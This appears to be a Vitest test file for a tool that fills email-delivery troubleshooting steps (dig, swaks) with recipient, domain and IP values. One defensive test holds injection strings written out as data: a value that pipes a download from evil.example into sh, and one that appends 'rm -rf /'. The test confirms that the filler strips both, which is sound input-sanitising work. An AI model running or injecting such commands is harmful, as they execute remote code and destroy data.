import { describe, expect, it } from 'vitest';
import { CAUSES, getCause } from '../../../src/causes/catalogue.js';
import {
  fillHeadline,
  fillStep,
  fillSteps,
  PLACEHOLDERS,
  placeholdersIn,
} from '../../../src/causes/fill-steps.js';

describe('fillStep', () => {
  it('substitutes values in prose and in code', () => {
    expect(
      fillStep('Check {recipient}: `dig +short MX {domain}`.', {
        recipient: 'bob@example.org',
        domain: 'example.org',
      }),
    ).toBe('Check bob@example.org: `dig +short MX example.org`.');
  });

  it('falls back to plain words in prose and to a visible slot in code', () => {
    expect(fillStep('Find what sent spam from {ip}.', {})).toBe('Find what sent spam from your sending IP.');
    expect(fillStep('Ask {provider} about {domain}.', {})).toBe(
      'Ask the receiving provider about the recipient domain.',
    );
    expect(fillStep('Run `dig -x {ip} +short` and `dig +short MX {domain}`.', {})).toBe(
      'Run `dig -x <your-ip> +short` and `dig +short MX <recipient-domain>`.',
    );
    expect(fillStep('Test `swaks --to {recipient} --server {remoteHost}`.', { recipient: '  ' })).toBe(
      'Test `swaks --to <recipient> --server <receiving-mx>`.',
    );
  });

  it('drops a step that hinges on a value with no sensible fallback', () => {
    expect(fillStep('Did you mean {suggestion}?', {})).toBeUndefined();
    expect(fillStep('Did you mean {suggestion}?', { suggestion: 'bob@gmail.com' })).toBe(
      'Did you mean bob@gmail.com?',
    );
    expect(fillStep("Read {provider}'s guidance: {postmaster}", { provider: 'Yahoo / AOL' })).toBeUndefined();
    expect(fillStep('Request removal at {delist}.', {})).toBe(
      "Request removal at the list's own removal page.",
    );
    expect(fillStep('`open {delist}`', {})).toBeUndefined();
  });

  it('keeps untrusted values out of shell commands', () => {
    const evil = 'a$(curl evil.example|sh)@example.org';
    expect(fillStep('`swaks --to {recipient}`', { recipient: evil })).toBe('`swaks --to <recipient>`');
    expect(fillStep('`dig +short MX {domain}`', { domain: 'example.org; rm -rf /' })).toBe(
      '`dig +short MX <recipient-domain>`',
    );
    expect(fillStep('Ask {recipient}.', { recipient: 'o`brien@example.org' })).toBe(
      'Ask o brien@example.org.',
    );
    expect(fillStep('Ask {recipient}.', { recipient: 'bob@example.org\nInjected line' })).toBe(
      'Ask bob@example.org Injected line.',
    );
    expect(fillStep('`dig -x {ip}`', { ip: '2001:db8::1' })).toBe('`dig -x 2001:db8::1`');
  });

  it('leaves unknown placeholders alone and handles repeated ones', () => {
    expect(fillStep('Use {nothing} for {ip} and {ip}.', { ip: '192.0.2.7' })).toBe(
      'Use {nothing} for 192.0.2.7 and 192.0.2.7.',
    );
  });

  it('caps very long values and stays fast on big input', () => {
    const long = 'x'.repeat(100_000);
    const started = performance.now();
    const out = fillStep('Check {recipient} and `dig {domain}`.', { recipient: long, domain: long });
    expect(performance.now() - started).toBeLessThan(100);
    expect(out).toBe(`Check ${'x'.repeat(254)} and \`dig <recipient-domain>\`.`);
  });
});

describe('fillSteps', () => {
  it('fills a whole cause and leaves out steps it cannot fill', () => {
    const typo = getCause('recipient-domain-typo');
    const without = fillSteps(typo, { recipient: 'bob@gmial.com', domain: 'gmial.com' });
    // Without a suggestion nor a look-alike letter, the two steps that name them.
    expect(without).toHaveLength(typo.steps.length - 2);
    expect(without.join('\n')).not.toMatch(/[{}]/);
    const withSuggestion = fillSteps(typo, {
      recipient: 'bob@gmial.com',
      domain: 'gmial.com',
      suggestion: 'bob@gmail.com',
    });
    expect(withSuggestion[0]).toBe(
      'Did you mean bob@gmail.com? Confirm with the recipient before resending.',
    );
    expect(withSuggestion[1]).toContain('`dig +short MX gmial.com`');
    expect(withSuggestion).toHaveLength(typo.steps.length - 1);
  });

  it('names the blocklist and its removal page when known', () => {
    const steps = fillSteps(getCause('ip-blocklisted'), {
      ip: '203.0.113.7',
      blocklist: 'Spamhaus ZEN',
      delist: 'https://check.spamhaus.org/',
    });
    expect(steps.some((s) => s.includes('Spamhaus ZEN at https://check.spamhaus.org/'))).toBe(true);
    expect(steps.some((s) => s.includes('`/blacklist 203.0.113.7`'))).toBe(true);
  });

  it('leaves no placeholder behind in any cause, with or without values', () => {
    const all = Object.fromEntries(PLACEHOLDERS.map((p) => [p, `v-${p}`]));
    for (const cause of CAUSES) {
      for (const values of [{}, all]) {
        const steps = fillSteps(cause, values);
        expect(steps.length, cause.id).toBeGreaterThanOrEqual(2);
        for (const step of steps) expect(placeholdersIn(step), `${cause.id}: ${step}`).toEqual([]);
      }
      expect(fillSteps(cause, all)).toHaveLength(cause.steps.length);
    }
  });
});

describe('values resolved once per call', () => {
  it('never carries a value from one call into the next', () => {
    const cause = getCause('ip-blocklisted');
    const first = fillSteps(cause, { ip: '203.0.113.7', blocklist: 'Spamhaus ZEN' });
    const second = fillSteps(cause, { ip: '198.51.100.9' });
    expect(second.join('\n')).not.toContain('203.0.113.7');
    expect(second.join('\n')).not.toContain('Spamhaus ZEN');
    expect(first.join('\n')).toContain('203.0.113.7');
    expect(fillStep('{ip} `{ip}` {ip}', { ip: '192.0.2.1' })).toBe('192.0.2.1 `192.0.2.1` 192.0.2.1');
    expect(fillStep('{ip} `{ip}`', { ip: 'a b' })).toBe('a b `<your-ip>`');
    expect(fillStep('{ip}', {})).toBe('your sending IP');
  });

  it('fills a headline only when every placeholder in it has a value', () => {
    expect(fillHeadline('{provider} refused {ip}', { provider: 'Gmail', ip: '192.0.2.1' })).toBe(
      'Gmail refused 192.0.2.1',
    );
    expect(fillHeadline('{provider} refused {ip}', { provider: 'Gmail' })).toBeUndefined();
    expect(fillHeadline('{provider} refused {other}', { provider: 'Gmail' })).toBeUndefined();
    expect(fillHeadline('Refused', {})).toBe('Refused');
  });
});

describe('steps that hold for one outcome', () => {
  it('keeps "{deferred}" steps for a queued message and "{final}" steps for a returned one', () => {
    const cause = getCause('rate-limited');
    const deferred = fillSteps(cause, {}, false);
    const final = fillSteps(cause, {}, true);
    expect(deferred.some((s) => s.startsWith('Deferred mail retries on its own'))).toBe(true);
    expect(deferred.some((s) => s.includes('resend it'))).toBe(false);
    expect(final.some((s) => s.startsWith('The message was returned, not queued'))).toBe(true);
    expect(final.some((s) => s.includes('retries on its own'))).toBe(false);
    // Unknown outcome: both, without their markers.
    expect(fillSteps(cause, {})).toHaveLength(cause.steps.length);
    expect(fillSteps(cause, {}).join(' ')).not.toMatch(/\{(?:deferred|final)\}/);
  });

  it('leaves "{unnamed}" steps out when the queued message is named (its own commands stand in)', () => {
    const cause = getCause('delivery-delayed');
    const unnamed = fillSteps(cause, {}, false);
    const named = fillSteps(cause, {}, false, true);
    expect(unnamed.some((s) => s.startsWith('See the waiting message'))).toBe(true);
    expect(named.some((s) => s.includes('See the waiting message'))).toBe(false);
    expect(named).toHaveLength(unnamed.length - 1);
    expect(unnamed.join(' ')).not.toContain('{unnamed}');
  });
});

describe('fillStep with an internationalised domain', () => {
  it('puts the ASCII form (xn--…) in code, the written form in prose', () => {
    expect(
      fillStep('Ask {domain}: `dig +short MX {domain}`, `swaks --to {recipient}`.', {
        domain: 'bücher.example',
        recipient: 'bob@bücher.example',
      }),
    ).toBe(
      'Ask bücher.example: `dig +short MX xn--bcher-kva.example`, `swaks --to bob@xn--bcher-kva.example`.',
    );
  });

  it('keeps the visible slot when the local part itself is not ASCII', () => {
    expect(fillStep('`swaks --to {recipient}`', { recipient: 'jörg@example.org' })).toBe(
      '`swaks --to <recipient>`',
    );
  });
});
